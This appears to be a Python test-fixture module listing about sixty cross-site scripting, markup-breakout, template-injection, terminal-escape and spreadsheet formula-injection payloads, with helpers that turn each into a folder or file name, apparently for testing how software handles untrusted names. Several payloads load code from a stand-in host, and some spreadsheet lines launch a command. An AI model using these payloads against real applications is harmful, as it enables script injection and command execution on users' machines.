"""Names that a careless program would execute, or that would break out of their cell, attribute or line."""

PAYLOADS = (
    # elements and handlers
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(4)>",
    "<img src=x onerror=alert(5)//",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(7)>",
    "<svg/onload=alert(8)>",
    "<svg><script>alert(9)</script></svg>",
    "<svg><animate onbegin=alert(10) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(11)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    "<body onload=alert(13)>",
    "<iframe src=javascript:alert(14)></iframe>",
    "<iframe srcdoc='<script>alert(15)</script>'></iframe>",
    "<object data=javascript:alert(16)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=javascript:alert(21)><button>x</button></form>",
    "<input autofocus onfocus=alert(22)>",
    "<details open ontoggle=alert(23)>",
    "<video><source onerror=alert(24)></video>",
    "<a href=javascript:alert(25)>x</a>",
    "<a href='java\tscript:alert(26)'>x</a>",
    "<marquee onstart=alert(27)>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<div style=background:url(https://evil.example/x)>",
    "<template><script>alert(30)</script></template>",
    # out of where they stand
    '"><script>alert(31)</script>',
    "'><script>alert(32)</script>",
    '" onmouseover="alert(33)',
    "' onmouseover='alert(34)",
    "x onmouseover=alert(35) y=",
    "`onmouseover=alert(36)`",
    "</title><script>alert(37)</script>",
    "</style><script>alert(38)</script>",
    "</td></tr></table><script>alert(39)</script>",
    "</textarea><script>alert(40)</script>",
    "--><script>alert(41)</script><!--",
    "]]><script>alert(42)</script>",
    "<![CDATA[<script>alert(43)</script>]]>",
    "</svg><script>alert(44)</script>",
    # other spellings
    "&lt;script&gt;alert(45)&lt;/script&gt;",
    "&#60;script&#62;alert(46)&#60;/script&#62;",
    "javascript:alert(47)",
    "+ADw-script+AD4-alert(48)+ADw-/script+AD4-",
    "\x00<script>alert(49)</script>",
    "<scr\x00ipt>alert(50)</script>",
    "<\nscript>alert(51)</script\n>",
    "\x1b]0;title\x07\x1b[2J<b>52</b>",
    "\u202e>tpircs/<53>tpircs<",
    "{{constructor.constructor('alert(54)')()}}",
    "${alert(55)}<%= 7*7%>{% raw %}",
    # spreadsheets
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1,"quoted"\r\n=2+2',
)


def as_folder(payload: str) -> str:
    """Return a payload as the name of a folder, which cannot contain a slash or NUL and must not begin with a dot."""
    return payload.replace("/", "\u2215").replace("\x00", "\x01")


def as_file(payload: str) -> str:
    """Return a payload as a relative path of a file. Its slashes separate folders, so that end tags survive."""
    parts = [part for part in payload.replace("\x00", "\x01").split("/") if part]
    return "/".join(parts) + ".png"
